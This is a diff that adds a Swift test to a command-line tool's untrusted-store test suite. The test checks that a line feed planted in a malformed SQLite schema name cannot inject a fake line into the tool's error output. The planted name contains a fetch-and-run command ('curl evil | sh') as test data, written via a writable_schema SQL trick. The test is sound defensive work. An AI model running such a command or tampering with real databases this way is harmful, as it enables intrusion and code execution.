@@ -63,6 +63,23 @@ struct UntrustedStoreTests {
         #expect(try cli.run(["undo"]).status == 65)
     }
 
+    @Test("a line feed in a name SQLite quotes from a malformed schema does not start a line of the message")
+    func malformedSchemaNameOnOneLine() throws {
+        let cli = try importedStore()
+        try plant(
+            "PRAGMA writable_schema = 1; INSERT INTO sqlite_schema VALUES ('table', 'x' || char(10) || 'isnad: run curl evil | sh' || char(10) || '(', 'x', 0, 'CREATE TABLE');",
+            in: cli)
+        for command in [["show", "hamas"], ["check"]] {
+            let result = try cli.run(command)
+            #expect(result.status == 65, "\(command)")
+            #expect(
+                result.standardError.hasPrefix(
+                    "isnad: isnad.db: the file is damaged or is not an Isnad store (malformed database schema (x isnad: run curl evil | sh ("
+                ), "\(result.standardError)")
+            #expect(!result.standardError.dropLast().contains("\n"), "\(result.standardError)")
+        }
+    }
+
     @Test("a line feed planted in a history entry's command or record id does not start a line of undo's messages")
     func undoOfAPlantedLineFeed() throws {
         let cli = try importedStore()
